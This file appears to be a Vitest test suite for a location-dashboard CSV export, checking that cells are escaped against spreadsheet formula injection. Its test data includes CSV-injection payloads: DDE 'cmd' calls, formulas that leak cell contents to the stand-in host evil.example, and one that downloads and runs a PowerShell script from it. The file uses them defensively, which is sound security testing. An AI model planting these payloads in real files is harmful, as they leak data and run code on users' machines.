import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocationRow } from '../../renderer/src/api/types.js';
import { cellText } from '../../renderer/src/export/location-cells.js';
import { EXPORT_COLUMNS, formulaSafe, locationsCsv } from '../../renderer/src/export/locations-csv.js';
import { buildTestApp, type TestApp } from '../helpers/app.js';

// What a spreadsheet runs as a formula: the cell's first character after the whitespace it skips.
const RUNS_AS_FORMULA = /^\s*[=+\-@\t\r]/;

// OWASP, "CSV Injection" (its examples and payloads), and the usual DDE and web-request variants.
const OWASP = [
  `=cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `+2+3+cmd|' /C calc'!A0`,
  `=10+20+cmd|' /C calc'!A0`,
  `-cmd|' /C calc'!A0`,
  `@cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `=DDE("cmd";"/C calc";"!A0")A0`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
  `=IMPORTRANGE("https://docs.example/spreadsheets/d/1", "sheet1!A1:B2")`,
  `=IMAGE("http://evil.example/pixel.png")`,
  `=WEBSERVICE("http://evil.example/?"&A1)`,
  `=1+1`,
  `-1`,
  `+1`,
  `@`,
  `=`,
  `=cmd|'/C powershell IEX(wget evil.example/x.ps1)'!A0`,
  `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
];

// Line breaks anywhere: papaparse's escapeFormulae let all of these through.
const MULTI_LINE = [
  `=HYPERLINK(\n"http://evil.example","Click")`,
  `=HYPERLINK(\r\n"http://evil.example","Click")`,
  `=1+1\n`,
  `=cmd|' /C calc'!A0\nsecond line`,
  `+1\r\n+2`,
  `-1\n-2\n-3`,
  `@SUM(1+9)\n*cmd|' /C calc'!A0`,
  `=IMPORTXML(\nCONCAT("http://evil.example/?v=", A2), "//a")`,
  `=A1\u2028=B1`,
];

// Cells that start as text: they come back exactly as stored, with no quote added.
const TEXT = [`plain first line\n=second line formula`, `'=already quoted`, `a\n+b`, `Bluebird "Downtown"`];

// Leading whitespace a spreadsheet skips; the import trims it, the export must not rely on that.
const LEADING = [' =1+1', '  +1', '\t=1+1', '\r=1+1', '\n=1+1', '\u00a0=1+1', '\u3000@SUM(1)', ' \t -1', '\t', '\r'];

const PAYLOADS = [...OWASP, ...MULTI_LINE];
const ROUND_TRIP = [...PAYLOADS, ...TEXT];

describe('formulaSafe', () => {
  it.each([...PAYLOADS, ...LEADING])('%j is escaped', (value) => {
    const safe = formulaSafe(value);
    expect(safe).toBe(`'${value}`);
    expect(safe).not.toMatch(RUNS_AS_FORMULA);
  });

  it.each(['Bluebird Downtown', '12 Main St', 'a=b', 'x+1', '1-2', 'mail@example.com', '', ...TEXT])(
    '%j is left as it is',
    (value) => {
      expect(formulaSafe(value)).toBe(value);
    },
  );

  it('numbers written as text: a negative one is escaped, as a text that Excel would make a number (a store code "-05")', () => {
    expect(formulaSafe('100')).toBe('100');
    expect(formulaSafe('-89.65')).toBe("'-89.65");
    expect(formulaSafe('-05')).toBe("'-05");
  });
});

describe('import -> the dashboard export -> papaparse: no cell comes back starting with a formula character', () => {
  let t: TestApp;
  let admin: string;
  let clientId: string;
  let rows: LocationRow[];

  beforeAll(async () => {
    t = await buildTestApp();
    await t.addUser('admin@example.com', 'admin');
    admin = await t.login('admin@example.com');
    clientId = await t.createClient(admin, 'Injected Client');
    // Every payload in every free-text column, and the leading-whitespace variants too.
    const payloads = [...ROUND_TRIP, ...LEADING.filter((value) => value.trim() !== '')];
    const upload = payloads.map((payload, index) => ({
      name: payload,
      address: payloads[(index + 1) % payloads.length],
      city: payloads[(index + 2) % payloads.length]!.slice(0, 120),
      state: payloads[(index + 3) % payloads.length]!.slice(0, 120),
      zip: '12345',
      country: 'US',
      // A negative coordinate is a number (written bare); a store code like a negative number is text.
      store_code: `-${String(index).padStart(2, '0')}`,
      latitude: -33.5,
      longitude: -70.65,
    }));
    const response = await t.request({
      method: 'POST',
      url: '/api/locations/upload?duplicates=keep',
      token: admin,
      body: { clientId, rows: upload },
    });
    expect(response.statusCode, response.body).toBe(201);
    const listed = await t.request({ method: 'GET', url: `/api/locations?clientId=${clientId}`, token: admin });
    rows = listed.json<LocationRow[]>();
    expect(rows).toHaveLength(upload.length);
  });
  afterAll(() => t.close());

  it('the server stored the payloads as sent (trimmed), line breaks included', () => {
    const names = rows.map((row) => row.name);
    for (const payload of ROUND_TRIP) expect(names).toContain(payload.trim());
    const multiLine = ROUND_TRIP.filter((payload) => /[\r\n]/.test(payload.trim()));
    expect(multiLine.length).toBeGreaterThanOrEqual(8);
    expect(names.filter((name) => /[\r\n]/.test(name))).toHaveLength(multiLine.length);
  });

  it('every cell of the CSV parses back escaped, and is the stored value behind its quote', async () => {
    const file = await locationsCsv(rows);
    expect(file.startsWith('\uFEFF')).toBe(true);
    const parsed = Papa.parse<string[]>(file.slice(1), { header: false, skipEmptyLines: false });
    expect(parsed.errors).toEqual([]);
    const [header, ...lines] = parsed.data;
    expect(header).toEqual(EXPORT_COLUMNS.map(([name]) => name));
    expect(lines).toHaveLength(rows.length);
    let escaped = 0;
    lines.forEach((line, index) => {
      expect(line).toHaveLength(EXPORT_COLUMNS.length);
      line.forEach((cell, column) => {
        const [name, field] = EXPORT_COLUMNS[column]!;
        const stored = rows[index]![field];
        const original = cellText(field, stored);
        // A value stored as a number is written as that number: a spreadsheet reads it so, never as a formula.
        if (typeof stored === 'number') {
          expect(cell).toBe(original);
          expect(Number(cell)).toBe(stored);
          return;
        }
        expect(cell, `row ${index} column ${name}: ${JSON.stringify(cell)}`).not.toMatch(RUNS_AS_FORMULA);
        if (RUNS_AS_FORMULA.test(original)) {
          escaped += 1;
          expect(cell).toBe(`'${original}`);
        } else {
          expect(cell).toBe(original);
        }
      });
    });
    // The four text columns hold a formula in most rows.
    expect(escaped).toBeGreaterThanOrEqual(rows.length * 3);
  });

  it('papaparse escapeFormulae alone lets the multi-line payloads through (why the export escapes itself)', () => {
    const csv = Papa.unparse(
      { fields: ['value'], data: MULTI_LINE.filter((v) => RUNS_AS_FORMULA.test(v)).map((v) => [v]) },
      { escapeFormulae: true },
    );
    const cells = Papa.parse<string[]>(csv)
      .data.slice(1)
      .map((line) => line[0]!);
    expect(cells.some((cell) => RUNS_AS_FORMULA.test(cell))).toBe(true);
  });
});
